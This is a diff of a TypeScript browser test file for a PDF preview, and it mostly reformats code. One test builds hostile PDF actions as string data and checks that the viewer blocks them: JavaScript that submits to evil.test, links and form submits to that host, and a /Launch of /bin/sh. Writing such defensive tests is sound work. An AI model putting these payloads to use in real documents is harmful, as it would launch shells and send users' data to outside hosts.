@@ -5,11 +5,12 @@ import { makePdf } from './pdf-samples.ts';
 import { openPreview, type PreviewPage } from './preview-page.ts';
 import { resource } from './support.ts';
 
-const pdfState = (name = 'a.pdf', reference = 'artifact:15') => sampleState({
-  reference,
-  facts: { ...sampleState().facts, name: 'report.pdf', typeName: 'PDF document', mimeType: 'application/pdf', icon: 'file-pdf' },
-  content: { kind: 'pdf', uri: resource(name) },
-});
+const pdfState = (name = 'a.pdf', reference = 'artifact:15') =>
+  sampleState({
+    reference,
+    facts: { ...sampleState().facts, name: 'report.pdf', typeName: 'PDF document', mimeType: 'application/pdf', icon: 'file-pdf' },
+    content: { kind: 'pdf', uri: resource(name) },
+  });
 
 /** Everything of PDF.js, and what it reads. */
 const ofPdfs = (request: string): boolean => /pdf/i.test(request);
@@ -24,25 +25,29 @@ describe('a PDF in the preview', () => {
   const pages = () => view.page.locator('preview-pdf-page');
   const drawn = () => view.page.locator('preview-pdf-page canvas[data-drawn]');
   /** How many pixels of a page's picture are dark. */
-  const ink = (page: number): Promise<number> => drawn().nth(page).evaluate((element) => {
-    const canvas = element as HTMLCanvasElement;
-    const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
-    return Array.from(data).filter((value, index) => index % 4 === 0 && value < 100).length;
-  });
+  const ink = (page: number): Promise<number> =>
+    drawn()
+      .nth(page)
+      .evaluate((element) => {
+        const canvas = element as HTMLCanvasElement;
+        const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
+        return Array.from(data).filter((value, index) => index % 4 === 0 && value < 100).length;
+      });
 
   /** Waits until the page has the workers that are wanted, looking whenever one comes or goes. */
-  const workersAre = (wanted: (workers: Worker[]) => boolean): Promise<void> => new Promise((resolve) => {
-    const look = (): void => {
-      if (wanted(view.page.workers())) resolve();
-    };
-    const follow = (worker: Worker): void => void worker.on('close', look);
-    view.page.workers().forEach(follow);
-    view.page.on('worker', (worker) => {
-      follow(worker);
+  const workersAre = (wanted: (workers: Worker[]) => boolean): Promise<void> =>
+    new Promise((resolve) => {
+      const look = (): void => {
+        if (wanted(view.page.workers())) resolve();
+      };
+      const follow = (worker: Worker): void => void worker.on('close', look);
+      view.page.workers().forEach(follow);
+      view.page.on('worker', (worker) => {
+        follow(worker);
+        look();
+      });
       look();
     });
-    look();
-  });
 
   it('nothing of the PDF viewer is loaded before a PDF is shown, and the viewer then reads the file once', async () => {
     view = await openPreview(sampleState({ content: { kind: 'facts' } }), { resources: { 'a.pdf': makePdf() } });
@@ -105,29 +110,42 @@ describe('a PDF in the preview', () => {
     await view.show(pdfState('gone.pdf', 'artifact:16'));
     await view.page.getByText('The file could not be loaded.').waitFor();
     const expected = view.problems.splice(0);
-    assert.ok(expected.every((problem) => /gone\.pdf|404/.test(problem)), expected.join('\n'));
+    assert.ok(
+      expected.every((problem) => /gone\.pdf|404/.test(problem)),
+      expected.join('\n'),
+    );
   });
 
   it('scripts, links, forms and attachments in it do nothing, and nothing is asked for from outside', async () => {
     const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.test/js"\\)) >>';
     const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.test/link) >> >>';
     const launch = '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (/bin/sh) >> >>';
-    const submit = '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 200] /A << /S /SubmitForm /F (https://evil.test/form) >> >>';
-    await open(makePdf({
-      catalog: `/OpenAction ${script} /Names << /JavaScript << /Names [(a) ${script}] >> >> /AA << /WC ${script} >>`,
-      page: `/AA << /O ${script} >> /Annots [${link} ${launch} ${submit}]`,
-    }));
+    const submit =
+      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 200] /A << /S /SubmitForm /F (https://evil.test/form) >> >>';
+    await open(
+      makePdf({
+        catalog: `/OpenAction ${script} /Names << /JavaScript << /Names [(a) ${script}] >> >> /AA << /WC ${script} >>`,
+        page: `/AA << /O ${script} >> /Annots [${link} ${launch} ${submit}]`,
+      }),
+    );
     await drawn().waitFor();
-    assert.equal(await view.page.locator('preview-pdf a, preview-pdf button:not(vscode-toolbar-button button), preview-pdf iframe').count(), 0);
+    assert.equal(
+      await view.page.locator('preview-pdf a, preview-pdf button:not(vscode-toolbar-button button), preview-pdf iframe').count(),
+      0,
+    );
     await pages().first().click();
     await view.show(sampleState({ content: { kind: 'facts' } }));
     await view.page.getByText('There is no visual preview').waitFor();
-    assert.deepEqual(view.requests.filter((request) => request.includes(':')), []);
+    assert.deepEqual(
+      view.requests.filter((request) => request.includes(':')),
+      [],
+    );
     assert.equal(view.page.url(), 'https://webview.test/');
   });
 
   it('Chinese without its font is drawn with a font of the system, by character maps of our own', async () => {
-    const font = '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 4 >> /FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /ItalicAngle 0 /Ascent 752 /Descent -271 /CapHeight 737 /StemV 58 /FontBBox [-25 -254 1000 880] >> >>] >>';
+    const font =
+      '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 4 >> /FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /ItalicAngle 0 /Ascent 752 /Descent -271 /CapHeight 737 /StemV 58 /FontBBox [-25 -254 1000 880] >> >>] >>';
     await open(makePdf({ font, pages: ['<4E2D6587>'] }));
     await drawn().waitFor();
     assert.ok((await ink(0)) > 100);
